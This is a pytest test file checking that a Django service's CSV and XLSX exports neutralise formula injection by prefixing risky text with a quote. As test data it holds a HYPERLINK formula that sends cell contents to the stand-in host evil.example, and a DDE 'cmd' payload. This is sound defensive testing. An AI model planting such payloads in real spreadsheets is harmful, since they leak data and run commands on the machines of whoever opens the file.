"""Formula injection: no text the service writes into a CSV or XLSX becomes a live formula.

The report exports are tested in tests/reports/test_exports.py; here the helper itself, the
processing-log CSV and the access request's CSV files."""
import csv
import io
import zipfile

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from cases.models import ContactMoment
from rwc.spreadsheets import csv_writer, neutralise, xlsx_append

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", ATTACK])
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["1+1", "a=b", "", " =x", 0, -3, 2.5, None, True])
def test_other_text_and_every_number_is_left_alone(value):
    assert neutralise(value) == value


def test_csv_writer_neutralises_text_but_not_numbers():
    out = io.StringIO()
    csv_writer(out).writerows([[ATTACK, -3, "-3", "ok"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + ATTACK, "-3", "'-3", "ok"]


def test_xlsx_text_is_a_string_cell_and_numbers_are_numbers():
    book = Workbook()
    xlsx_append(book.active, [ATTACK, -3, 0.25, None, "plain", "bad\x01char"])
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells] == [
        ("'" + ATTACK, "s"), (-3, "n"), (0.25, "n"), (None, "n"), ("plain", "s"), ("badchar", "s")]


@pytest.mark.django_db
def test_a_processing_purpose_header_is_no_formula_in_the_log_csv(api, world):
    api("counsellor").get(f"/api/v1/clients/{world.client_a.uuid}", HTTP_PROCESSING_PURPOSE=ATTACK)
    response = api("privacy_officer").get("/api/v1/processing-log", {"client": str(world.client_a.uuid)},
                                          HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["purpose"] for r in rows] == ["'" + ATTACK]


@pytest.mark.django_db
def test_a_contact_summary_is_no_formula_in_the_access_requests_contacts_csv(api, world):
    ContactMoment.objects.create(case=world.case_a, at=timezone.now(), channel="phone", kind="coaching",
                                 summary="=cmd|' /C calc'!A0")
    response = api("privacy_officer").get(f"/api/v1/clients/{world.client_a.uuid}/data-export")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        rows = list(csv.DictReader(io.StringIO(z.read("contacts.csv").decode())))
    summaries = [r["summary"] for r in rows]
    assert "'=cmd|' /C calc'!A0" in summaries
    assert not any(s.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for s in r.values())
